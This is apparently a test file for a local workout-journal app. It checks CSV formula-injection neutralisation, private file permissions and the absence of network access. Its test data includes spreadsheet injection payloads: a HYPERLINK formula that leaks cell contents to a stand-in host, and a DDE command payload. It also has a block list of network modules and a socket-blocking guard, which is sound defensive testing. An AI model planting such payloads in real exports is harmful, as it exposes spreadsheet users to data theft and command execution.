# SPDX-License-Identifier: MIT
"""Security: CSV export neutralises formula injection; the journal, its backups and exports are readable by the user
only (files 0600, folders 0700) whatever the umask; and no part of the program touches the network."""

from __future__ import annotations

import ast
import csv
import io
import os
import subprocess
import sys
from datetime import datetime
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from journal.domain.records import Entry, Exercise, Session, SetRecord
from journal.io import parse_text
from journal.io.base import ImportOptions
from journal.io.journal_csv import HEADER, HEADER_V2, JournalCsv, write_journal_csv
from journal.storage import repository as repo
from journal.storage.database import close_database, open_database
from journal.storage.exercises import create_exercise
from tests.reliability.support import REPO, SAMPLES, journal_env, run_journal, tree_modes

RISKY = ("=", "+", "-", "@", "\t", "\r")
ATTACKS = [
    '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "'=already quoted",
    "-",
    "=",
    "plain",
]


def _safe_cell(cell: str) -> bool:
    """Not run by a spreadsheet: no formula prefix, unless it is a plain number (a load of -0.0 is still 0)."""
    if not cell or cell[0] not in RISKY:
        return True
    if cell[0] in "+-":
        try:
            float(cell)
        except ValueError:
            return False
        return True
    return False


def _unsafe_cells(text: str) -> list[tuple[int, str, str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == HEADER
    return [
        (number, HEADER[i], cell)
        for number, row in enumerate(rows[1:], 2)
        for i, cell in enumerate(row)
        if not _safe_cell(cell)
    ]


def test_journal_export_neutralises_formulas_in_every_text_field(tmp_path: Path, data_dir: Path) -> None:
    db = tmp_path / "j" / "journal.sqlite"
    open_database(db)
    for n, attack in enumerate(ATTACKS):
        exercise, _ = create_exercise(f"{attack} lift {n}", Exercise(id=None, name="x", equipment=attack))
        repo.add_session(
            Session(
                start=datetime(2026, 1, 1 + n, 18),
                title=attack,
                notes=attack,
                source="manual",
                entries=(Entry(exercise=exercise, note=attack, sets=(SetRecord(load_kg=100, reps=5, note=attack),)),),
            )
        )
    close_database()
    out = tmp_path / "export.csv"
    result = run_journal(data_dir, "export", out, "--db", db)
    assert result.returncode == 0, result.stderr
    text = out.read_bytes().decode("utf-8")  # as `journal import` reads it: line ends untouched
    assert _unsafe_cells(text) == []
    # The apostrophes come off again on import: the text is exactly what was written.
    parsed = parse_text(text, "journal")
    assert sorted(s.title for s in parsed.sessions) == sorted(ATTACKS)
    assert {s.entries[0].sets[0].note for s in parsed.sessions} == set(ATTACKS)


def test_muscles_from_an_imported_file_are_neutralised_on_export(tmp_path: Path, data_dir: Path) -> None:
    row = [
        "journal/2",
        "1",
        "2026-01-05T18:00:00",
        "",
        "Shared",
        "",
        "",
        "manual",
        "",
        "1",
        "Friend's Lift",
        "",
        "=1+2|@SUM(A1)",
        "-3+4",
        "other",
        "0",
        "reps",
        "",
        "working",
        "50.0",
        "5",
        "",
        "",
        "",
        "",
        "",
        "",
        "",
    ]
    shared = tmp_path / "from-a-friend.csv"
    with shared.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([HEADER_V2, row])  # a journal/2 file still reads
    db = tmp_path / "j" / "journal.sqlite"
    assert run_journal(data_dir, "import", shared, "--db", db).returncode == 0
    out = tmp_path / "export.csv"
    assert run_journal(data_dir, "export", out, "--db", db).returncode == 0
    text = out.read_bytes().decode("utf-8")
    assert _unsafe_cells(text) == []
    # The apostrophe comes off again on import: the muscles are exactly what the friend's file named.
    (exercise,) = {
        e.exercise
        for s in parse_text(text, "journal").sessions
        for e in s.entries
        if e.exercise.name == "Friend's Lift"
    }
    assert (exercise.primary, exercise.secondary) == (("=1+2", "@SUM(A1)"), ("-3+4",))


TEXT = (
    st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=40)
    | st.sampled_from(ATTACKS)
    | st.builds(lambda a, b: a + b, st.sampled_from(ATTACKS + ["'", "''", "\n=", " ="]), st.text(max_size=8))
)
MUSCLES = st.lists(TEXT.filter(lambda s: s and "|" not in s), max_size=3).map(tuple)  # '|' joins them in the file


@settings(max_examples=150, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    title=TEXT,
    notes=TEXT,
    name=TEXT.filter(lambda s: s.strip()),
    entry_note=TEXT,
    set_note=TEXT,
    key=TEXT,
    primary=MUSCLES,
    secondary=MUSCLES,
)
def test_export_then_import_gives_back_every_text_and_no_formula(
    title: str,
    notes: str,
    name: str,
    entry_note: str,
    set_note: str,
    key: str,
    primary: tuple[str, ...],
    secondary: tuple[str, ...],
) -> None:
    exercise = Exercise(id=None, name=name, equipment="barbell", primary=primary, secondary=secondary)
    session = Session(
        start=datetime(2026, 2, 3, 7, 30),
        title=title,
        notes=notes,
        source="strong",
        source_key=key or None,
        entries=(Entry(exercise=exercise, note=entry_note, sets=(SetRecord(load_kg=60.0, reps=8, note=set_note),)),),
    )
    out = io.StringIO()
    write_journal_csv([session], out)
    assert _unsafe_cells(out.getvalue()) == []
    (back,) = JournalCsv().read(out.getvalue(), ImportOptions()).sessions
    assert (back.title, back.notes, back.source_key) == (title, notes, key or None)
    assert (back.entries[0].exercise.name, back.entries[0].note, back.entries[0].sets[0].note) == (
        name,
        entry_note,
        set_note,
    )
    assert (back.entries[0].exercise.primary, back.entries[0].exercise.secondary) == (primary, secondary)


# ---- file modes -------------------------------------------------------------------------------------------------


def _no_umask() -> None:
    os.umask(0)  # the worst umask a lifter might have: nothing is taken away by it


def test_journal_backups_and_exports_are_private_whatever_the_umask(tmp_path: Path, data_dir: Path) -> None:
    folder = tmp_path / "new" / "journal-folder"
    db = folder / "journal.sqlite"
    hevy = SAMPLES / "hevy" / "hevy-kg.csv"
    for args in (
        ["demo", "--years", "0.2", "--db", db],
        ["import", hevy, "--db", db],
        ["backup", "--db", db],
        ["backup", "--db", db, "--to", tmp_path / "copy.sqlite"],
        ["export", tmp_path / "out.csv", "--db", db],
        ["restore", tmp_path / "copy.sqlite", "--db", db],
    ):
        result = run_journal(data_dir, *args, preexec=_no_umask)
        assert result.returncode == 0, (args, result.stderr)
    script = (
        "from pathlib import Path; from journal.ui.app import make_application; "
        "from journal.ui.service import JournalService, Preferences; make_application(); "
        f"s = JournalService(Path({str(db)!r})); s.backup_now(); "
        "s.set_preferences(Preferences(**{**s.preferences.__dict__, 'backups_keep': 4})); s.close()"
    )
    window = subprocess.run(
        [sys.executable, "-c", script],
        env=journal_env(data_dir),
        preexec_fn=_no_umask,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert window.returncode == 0, window.stderr

    wrong = [
        (str(path), oct(mode))
        for path, mode in tree_modes(folder)
        if not path.name.endswith(".lock") and mode != (0o700 if path.is_dir() else 0o600)
    ]
    wrong += [(str(path), oct(mode)) for path, mode in tree_modes(data_dir) if path.is_file() and mode != 0o600]
    wrong += [
        (str(path), oct(path.stat().st_mode & 0o777))
        for path in (tmp_path / "copy.sqlite", tmp_path / "out.csv")
        if path.stat().st_mode & 0o777 != 0o600
    ]
    assert (data_dir / "settings.ini").is_file()
    reasons = {p.name.rsplit("-", 1)[-1] for p in (folder / "backups").iterdir()}
    assert {"import.sqlite", "manual.sqlite", "restore.sqlite"} <= reasons
    assert wrong == []


# ---- no network -------------------------------------------------------------------------------------------------

FORBIDDEN = {
    "socket",
    "urllib",
    "http",
    "requests",
    "ssl",
    "ftplib",
    "smtplib",
    "xmlrpc",
    "asyncio",
    "PySide6.QtNetwork",
    "PySide6.QtWebEngineCore",
    "PySide6.QtWebSockets",
}


def _imports(tree: ast.AST) -> set[str]:
    found: set[str] = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            found |= {alias.name for alias in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module and not node.level:
            found.add(node.module)
            found |= {f"{node.module}.{alias.name}" for alias in node.names}
        elif (
            isinstance(node, ast.Call)
            and getattr(node.func, "attr", getattr(node.func, "id", "")) in ("import_module", "__import__")
            and node.args
            and isinstance(node.args[0], ast.Constant)
        ):
            found.add(str(node.args[0].value))
    return found


def test_no_module_imports_anything_that_talks_to_the_network() -> None:
    modules = sorted((REPO / "journal").rglob("*.py"))
    assert len(modules) > 40
    offenders = []
    for module in modules:
        for name in _imports(ast.parse(module.read_text(encoding="utf-8"), str(module))):
            if any(name == bad or name.startswith(bad + ".") for bad in FORBIDDEN):
                offenders.append(f"{module.relative_to(REPO)}: {name}")
    assert offenders == []


GUARD = """
import os, socket, sys

def _refuse(*args, **kwargs):
    raise OSError("network access attempted")

class _NoSocket(socket.socket):
    def __init__(self, *args, **kwargs):
        _refuse()

socket.socket = _NoSocket
socket.create_connection = socket.getaddrinfo = socket.gethostbyname = _refuse

def _audit(event, args):
    if event.startswith("socket."):
        with open(os.environ["NETWORK_LOG"], "a") as log:
            log.write(f"{event} {args!r}\\n")
        raise OSError(f"network access attempted: {event}")

sys.addaudithook(_audit)
"""


def test_journal_smoke_runs_with_the_network_cut_off(tmp_path: Path, data_dir: Path) -> None:
    """`journal --smoke` (every main view built and rendered) with any socket refused and logged by a
    sitecustomize; first proved to catch a socket."""
    guard = tmp_path / "guard"
    guard.mkdir()
    (guard / "sitecustomize.py").write_text(GUARD)
    log = tmp_path / "network.log"
    env = journal_env(data_dir, PYTHONPATH=f"{guard}{os.pathsep}{REPO}", NETWORK_LOG=str(log))
    for code in (
        "import socket; socket.socket()",
        "import _socket; _socket.socket()",
        "import urllib.request; urllib.request.urlopen('http://example.invalid/')",
    ):
        control = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, timeout=60)
        assert control.returncode != 0 and "network access attempted" in control.stderr, (code, control.stderr)
    assert log.exists()  # the audit hook saw the raw socket
    log.unlink()

    smoke = subprocess.run(
        [sys.executable, "-m", "journal", "--smoke"], env=env, capture_output=True, text=True, timeout=120, cwd=tmp_path
    )
    assert smoke.returncode == 0, smoke.stderr
    assert "smoke: ok" in smoke.stdout
    assert not log.exists(), log.read_text()
    stats = subprocess.run(
        [sys.executable, "-m", "journal", "demo", "--years", "0.2", "--db", str(tmp_path / "j.sqlite")],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert stats.returncode == 0 and not log.exists(), stats.stderr
